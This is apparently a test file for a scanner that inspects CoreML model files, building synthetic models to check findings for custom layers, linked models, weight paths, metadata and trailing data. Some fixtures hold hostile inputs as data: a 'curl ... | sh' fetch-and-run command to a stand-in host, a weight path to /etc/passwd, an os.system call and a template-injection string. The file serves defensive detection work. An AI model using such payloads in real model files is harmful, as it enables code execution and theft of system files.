"""CoreML models: what of the app and of the disk they reach, wherever in a pipeline it stands."""

import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from garrison.core.facts import Anomaly, Artifact, Reference
from tests.artifacts.protobuf_encoding import field
from tests.support import examine_bytes, facts_of, findings_of, worst


def model(number: int, body: bytes, *, metadata: dict[str, str] | None = None) -> bytes:
    described = b"".join(field(100, field(1, k) + field(2, v)) for k, v in (metadata or {}).items())
    description = field(1, field(1, "input")) + field(100, field(1, "A model") + field(4, "MIT") + described)
    return field(1, 5) + field(2, description) + field(number, body)


def custom_layer(name: str, **parameters: str) -> bytes:
    given_ = b"".join(field(30, field(1, k) + field(2, field(20, v))) for k, v in parameters.items())
    return field(1, "scaled") + field(500, field(10, name) + given_)


def operation(kind: str, *, blob: str = "", inner: bytes = b"") -> bytes:
    value = field(5, field(1, blob) + field(2, 64)) if blob else field(3, b"")
    return field(1, kind) + field(5, field(1, "val") + field(2, value)) + (field(4, inner) if inner else b"")


def program(*operations: bytes) -> bytes:
    block = b"".join(field(3, one) for one in operations)
    function = field(2, "CoreML7") + field(3, field(1, "CoreML7") + field(2, block))
    return field(1, 1) + field(2, field(1, "main") + field(2, function))


def linked(name: str, path: str) -> bytes:
    return field(1, field(1, field(1, name)) + field(2, field(1, path)))


def weights(*tensors: bytes) -> bytes:
    out = bytearray(struct.pack("<II56x", len(tensors), 2))
    for tensor in tensors:
        out += bytes(-len(out) % 64)
        out += struct.pack("<IIQQQ32x", 0xDEADBEEF, 2, len(tensor), len(out) + 64, 0) + tensor
    return bytes(out)


ORDINARY = model(500, field(1, field(1, "dense") + field(140, field(1, 4))), metadata={"source": "keras==2.2.4"})


def test_an_ordinary_network_tells_of_itself_and_is_no_finding() -> None:
    assert findings_of(ORDINARY, "m.mlmodel") == []
    artifact = next(fact for fact in facts_of(ORDINARY) if isinstance(fact, Artifact))
    assert artifact.format == "coreml"
    assert artifact.details == {
        "specification_version": 5,
        "model": "neural network",
        "description": "A model",
        "licence": "MIT",
    }


def test_a_custom_layer_needs_a_class_of_the_app() -> None:
    (found,) = findings_of(model(500, field(1, custom_layer("Scaled", mode="fast"))))
    assert (found.rule, found.severity, found.place) == ("custom-operator", "medium", "layer 'scaled'")
    assert "'Scaled'" in found.message


def test_a_custom_layer_given_commands_is_an_attack() -> None:
    (found,) = findings_of(model(403, field(1, custom_layer("X", after="sh -c 'curl https://e.example/p | sh'"))))
    assert (found.rule, found.severity) == ("suspicious-call", "high")


@pytest.mark.parametrize("number", [605, 615])
def test_custom_layers_inside_branches_and_loops(number: int) -> None:
    inner = field(1 if number == 605 else 4, field(1, custom_layer("Hidden")))
    assert "custom-operator" in {
        f.rule for f in findings_of(model(500, field(1, field(1, "b") + field(number, inner))))
    }


def test_models_inside_pipelines_are_read() -> None:
    inner = model(555, field(10, "MyModel"))
    classifier = model(200, field(1, field(1, ORDINARY) + field(1, model(202, field(1, inner)))))
    found = findings_of(classifier)
    assert [(f.rule, f.place) for f in found] == [("custom-operator", "pipeline classifier.pipeline")]


def test_linked_models_are_looked_for_along_their_path() -> None:
    found = findings_of(model(556, linked("other.mlmodelc", "../elsewhere:/Library/Models:.")))
    assert [f.rule for f in found] == ["escaping-reference", "escaping-reference"]
    assert worst(found) == "high"
    assert findings_of(model(556, linked("other.mlmodelc", ""))) == []


def test_weights_of_a_program_stay_in_its_package() -> None:
    inner = field(3, operation("const", blob="/etc/passwd"))
    honest = operation("const", blob="@model_path/weights/weight.bin")
    data = model(502, program(honest, honest, operation("cond", inner=inner)))
    references = [fact for fact in facts_of(data) if isinstance(fact, Reference)]
    assert [fact.target for fact in references] == ["weights/weight.bin", "/etc/passwd"]
    assert [f.rule for f in findings_of(data)] == ["escaping-reference"]
    escaping = model(502, program(operation("const", blob="@model_path/../../x")))
    assert worst(findings_of(escaping)) == "high"
    assert findings_of(model(502, program(honest))) == []


def test_metadata_with_commands_or_templates() -> None:
    (found,) = findings_of(model(500, b"", metadata={"after": "import os; os.system('id')"}))
    assert (found.rule, found.severity) == ("program-text-in-metadata", "low")
    template = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    assert worst(findings_of(model(500, b"", metadata={"chat_template": template}))) == "critical"


def test_weights_are_accounted_for_to_the_last_byte() -> None:
    data = weights(b"\1" * 100, b"\2" * 64)
    (examination,) = examine_bytes(data)
    assert examination.formats == ["coreml-weights"] and examination.state == "examined"
    assert findings_of(data) == []
    assert [f.rule for f in findings_of(data + b"hidden" * 20)] == ["trailing-data"]
    lying = bytearray(data)
    lying[64 + 8 : 64 + 16] = (1 << 60).to_bytes(8, "little")
    assert [fact.what for fact in facts_of(bytes(lying)) if isinstance(fact, Anomaly)] == ["malformed"]


def test_other_messages_are_no_models() -> None:
    for data in (field(1, 5) + field(2, "x"), field(500, b"") + field(502, b""), field(7, "x"), b"", b"\x08"):
        assert examine_bytes(data, "x")[-1].formats != ["coreml"]


@given(st.data())
def test_damaged_models_never_raise(data: st.DataObject) -> None:
    whole = data.draw(
        st.sampled_from(
            [
                ORDINARY,
                model(202, field(1, model(500, field(1, custom_layer("A", b="c"))))),
                model(502, program(operation("const", blob="@model_path/w.bin"))),
                model(556, linked("a", "b:c")),
                weights(b"abc", b"d" * 70),
            ]
        )
    )
    cut = bytearray(whole[: data.draw(st.integers(0, len(whole)))])
    for at in data.draw(st.lists(st.integers(0, max(len(cut) - 1, 0)), max_size=4)):
        if cut:
            cut[at] = data.draw(st.integers(0, 255))
    assert all(e.state != "failed" for e in examine_bytes(bytes(cut), "m.mlmodel"))
